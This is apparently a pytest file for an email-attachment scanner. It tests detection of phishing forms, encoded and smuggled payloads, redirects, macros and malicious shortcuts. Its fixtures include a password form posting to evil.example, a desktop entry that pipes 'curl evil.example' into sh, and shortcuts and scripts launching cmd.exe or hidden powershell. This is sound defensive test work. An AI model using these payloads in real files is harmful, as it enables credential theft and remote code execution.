"""Pages, pictures with scripts, shortcuts and scripts."""

import base64

import pytest

from mailguard.corpus.writers import formats as makers
from tests.cast.mailguard.files.examined import inside, outer, traits

FORM = (
    '<form action="https://evil.example/post" method="post"><input name=u><input type=password name=p></form>'
)


def _page(body):
    return f"<!doctype html><html><body>{body}</body></html>".encode()


def test_a_plain_page_is_a_page_and_no_more():
    file = outer("agenda.html", _page("<p>We meet.</p><a href='https://example.org/'>site</a>"))
    assert {trait.name for trait in file.traits} == {"html"}
    assert file.text == "We meet. site"
    assert [(link.url, link.text, link.where) for link in file.links] == [
        ("https://example.org/", "site", "a")
    ]


def test_a_form_for_a_password_is_read():
    file = outer("doc.html", _page(FORM))
    assert file.has("asks_password")
    assert file.forms[0].asks_password
    assert file.forms[0].action == "https://evil.example/post"


def _percent(text):
    return "document.write(unescape('" + "".join(f"%{byte:02x}" for byte in text.encode()) + "'))"


LAYERS = {
    "base64": lambda text: f"document.write(atob('{base64.b64encode(text.encode()).decode()}'))",
    "percent": _percent,
    "numbers": lambda text: "x=[" + ",".join(str(byte) for byte in text.encode()) + "]",
    "hex": lambda text: "x='" + "".join(f"\\x{byte:02x}" for byte in text.encode()) + "'",
    "twice": lambda text: f"x=atob('{base64.b64encode(_percent(text).encode()).decode()}')",
}


@pytest.mark.parametrize("hide", LAYERS.values(), ids=LAYERS)
def test_a_form_under_a_layer_of_encoding_is_read(hide):
    file = outer("doc.html", _page(f"<script>{hide(FORM)}</script>"))
    assert file.forms[0].action == "https://evil.example/post"
    assert file.has("asks_password")


def test_a_page_that_builds_a_file_smuggles_it():
    letters = base64.b64encode(makers.zipped({"setup.exe": makers.PROGRAM})).decode()
    body = (
        f"<script>var d=atob('{letters}');var b=new Blob([d]);a.href=URL.createObjectURL(b);"
        "a.download='list.zip';a.click()</script>"
    )
    assert "smuggling" in traits("list.html", _page(body))
    assert inside("list.html", _page(body))["setup.exe"].has("executable")


def test_a_script_that_counts_visits_smuggles_nothing():
    found = traits("a.html", _page("<script>document.title = 'Hello'; count(1)</script>"))
    assert found == {"html", "scripted"}


def test_pages_that_lead_on_at_once_say_where():
    for body in (
        '<meta http-equiv="refresh" content="0; url=https://evil.example/x">',
        "<script>window.location.href = 'https://evil.example/x'</script>",
    ):
        file = outer("a.htm", _page(body))
        assert file.has("redirect")
        assert file.links[0].url == "https://evil.example/x"


def test_names_without_meaning_hide_something():
    assert "obfuscated" in traits("a.html", _page("<script>var _0x3fa1=['x'];eval(_0x3fa1[0])</script>"))
    assert "obfuscated" in traits("a.html", _page('<script>window.location.href=atob("aHR0cHM6");</script>'))


def test_a_drawing_is_harmless_and_one_with_a_script_is_not():
    drawing = b'<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>'
    assert traits("logo.svg", drawing) == set()
    active = (
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>location="https://evil.example/"</script></svg>'
    )
    assert {"svg_active", "redirect"} <= traits("logo.svg", active)
    assert "svg_active" in traits("logo.svg", drawing.replace(b"<path", b"<foreignObject /><path"))


def test_a_code_in_a_picture_within_the_page_is_read():
    letters = base64.b64encode(makers.picture("https://evil.example/q")).decode()
    file = outer("a.html", _page(f'<img src="data:image/png;base64,{letters}">'))
    assert ("https://evil.example/q", "qr") in {(link.url, link.where) for link in file.links}


def test_a_saved_page_shows_its_macros():
    import zlib

    packed = b"ActiveMime" + b"\x00" * 40 + zlib.compress(makers.macro_project("Sub AutoOpen()\r\nEnd Sub"))
    data = (
        b'MIME-Version: 1.0\nContent-Type: multipart/related;boundary="x"\n\n--x\nContent-Type: text/html\n\n'
        + _page(FORM)
        + b"\n--x\nContent-Type: application/x-mso\nContent-Transfer-Encoding: base64\n\n"
        + base64.encodebytes(packed)
        + b"\n--x--\n"
    )
    file = outer("a.doc", data)
    assert file.kind == "mht"
    assert file.forms
    assert {"macro", "macro_auto"} <= {trait.name for trait in file.traits}


SHORTCUTS = [
    ("a.url", b"[InternetShortcut]\r\nURL=file://evil.example@80/share/a.exe\r\n", "shortcut_remote"),
    (
        "b.url",
        b"[InternetShortcut]\r\nURL=https://a.example/\r\nIconFile=\\\\a.example\\i\r\n",
        "shortcut_remote",
    ),
    (
        "a.library-ms",
        b"<libraryDescription><url>\\\\evil.example\\d</url></libraryDescription>",
        "shortcut_remote",
    ),
    (
        "a.settingcontent-ms",
        b"<PCSettings><DeepLink>cmd.exe /c calc</DeepLink></PCSettings>",
        "shortcut_command",
    ),
    ("a.desktop", b"[Desktop Entry]\nExec=sh -c 'curl evil.example | sh'\n", "shortcut_command"),
    ("a.rdp", b"full address:s:evil.example\nalternate shell:s:cmd.exe /c x\n", "shortcut_command"),
    ("a.lnk", makers.shortcut("..\\System32\\cmd.exe", "/c powershell -enc AA"), "shortcut_command"),
]


@pytest.mark.parametrize(("name", "data", "trait"), SHORTCUTS, ids=[row[0] for row in SHORTCUTS])
def test_a_shortcut_says_what_it_opens(name, data, trait):
    assert {"shortcut", trait} <= traits(name, data)


def test_an_ordinary_shortcut_is_only_that():
    file = outer("site.url", b"[InternetShortcut]\r\nURL=https://example.org/\r\n")
    assert {trait.name for trait in file.traits} == {"shortcut"}
    assert file.links[0].host == "example.org"
    assert traits("a.lnk", makers.shortcut("..\\notes.txt", "")) == {"shortcut"}


def test_scripts_are_known_by_name_and_by_their_words():
    harm = b"var s=new ActiveXObject('WScript.Shell');s.Run('powershell -w hidden')"
    assert {"script", "script_suspicious"} <= traits("invoice.js", harm)
    assert traits("page.js", b"function add(a, b) { return a + b }") == {"script"}
    assert traits("notes.txt", b"The function of the committee") == set()
    assert "script" in traits("invoice", b"#!/bin/sh\nls\n")
    assert "script" in traits("a.hta", b"<html><script>x</script></html>")
